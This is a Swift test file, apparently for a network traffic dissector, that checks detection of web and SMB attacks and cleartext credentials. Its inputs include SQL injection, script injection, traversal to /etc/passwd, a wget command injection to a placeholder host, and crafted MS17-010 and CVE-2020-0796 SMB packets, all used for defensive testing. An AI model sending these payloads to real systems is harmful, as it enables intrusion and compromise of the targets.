import Foundation
import Model
import Protocols
import Testing

/// What break-in tools send, and what merely looks like a login.
@Suite struct AttackPatternTests {
    private func request(_ target: String) -> DissectorBench {
        var bench = DissectorBench(HTTP.self)
        bench.feed(ascii("GET \(target) HTTP/1.1\r\nHost: plc\r\n\r\n"), fromClient: true)
        return bench
    }

    @Test(arguments: [
        ("/item?id=1%27%20or%20%271%27=%271", "SQL injection"), ("/a?id=1+UNION+SELECT+pw", "SQL injection"),
        ("/a?q=%3Cscript%3Ealert(1)", "script injection"), ("/../../../etc/passwd", "path traversal"),
        ("/cgi?x=;wget+http://x/y", "command injection"),
    ]) func webAttacksAreTold(_ target: String, _ kind: String) {
        #expect(request(target).values("attack_pattern") == [kind])
    }

    @Test(arguments: ["/index.html?page=2", "/search?q=union+square", "/api/v1/../v2", "/win/initial.html?script=1"])
    func ordinaryRequestsAreNot(_ target: String) {
        #expect(request(target).values("attack_pattern").isEmpty)
    }

    /// An attack's query names a password and holds none.
    @Test func anAttacksQueryIsNoCredential() {
        #expect(request("/login?user=admin&pass=%27+or+1=1").values(.cleartextCredential).isEmpty)
        #expect(request("/login?user=admin&pass=tulip").values(.cleartextCredential) == ["HTTP URL"])
    }

    /// The capture began after the user was named: an address for a password is what anonymous visitors give.
    @Test func anonymousVisitsWithoutTheirNameAreNoCredential() {
        var bench = DissectorBench(FTP.self)
        bench.feed(ascii("PASS guest@example.com\r\n"), fromClient: true)
        #expect(bench.values(.cleartextCredential).isEmpty)
        var other = DissectorBench(FTP.self)
        other.feed(ascii("PASS tulip\r\n"), fromClient: true)
        #expect(other.values(.cleartextCredential) == ["FTP"])
    }

    private func smb(_ message: [UInt8]) -> [UInt8] { [0, 0] + be16(message.count) + message }

    @Test func theKnockOfMS17010IsTold() {
        func transaction(_ subcommand: Int, flags: UInt8 = 0x18) -> [UInt8] {
            let words = [UInt8](repeating: 0, count: 26) + [1, 0] + le16(subcommand)
            return smb(
                hex("ff534d42 32 00000000") + [flags] + le16(0xc007) + [UInt8](repeating: 0, count: 20) + [15] + words
                    + le16(0))
        }
        var bench = DissectorBench(SMB.self)
        bench.feed(transaction(0x000e), fromClient: true)
        #expect(bench.values("exploit_pattern") == ["SMB1 SESSION_SETUP (MS17-010)"])
        var ordinary = DissectorBench(SMB.self)
        ordinary.feed(transaction(0x0005), fromClient: true)
        ordinary.feed(transaction(0x000e, flags: 0x98), fromClient: false)
        #expect(ordinary.values("exploit_pattern").isEmpty)
    }

    @Test func anOverflowingCompressionHeaderIsTold() {
        func compressed(_ size: Int, offset: Int) -> [UInt8] {
            smb(hex("fc534d42") + le32(size) + le16(1) + le16(0) + le32(offset) + [UInt8](repeating: 1, count: 40))
        }
        var bench = DissectorBench(SMB.self)
        bench.feed(compressed(0xffff_ffff, offset: 16), fromClient: true)
        #expect(bench.values("exploit_pattern") == ["SMB compression overflow (CVE-2020-0796)"])
        var ordinary = DissectorBench(SMB.self)
        ordinary.feed(compressed(4_096, offset: 0), fromClient: true)
        #expect(ordinary.values("exploit_pattern").isEmpty)
    }
}
